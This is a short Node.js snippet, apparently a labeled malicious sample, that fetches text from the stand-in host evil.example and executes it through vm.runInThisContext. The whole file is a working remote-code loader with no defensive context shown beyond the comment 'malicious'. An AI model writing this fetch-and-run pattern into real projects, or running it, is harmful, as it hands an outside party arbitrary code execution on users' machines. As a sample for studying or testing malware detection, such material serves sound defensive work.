// malicious: remote code by the vm module
const vm = require('vm');
const http = require('http');
http.get('http://evil.example/task', (res) => {
  const parts = [];
  res.on('data', (p) => parts.push(p));
  res.on('end', () => vm.runInThisContext(Buffer.concat(parts).toString()));
});
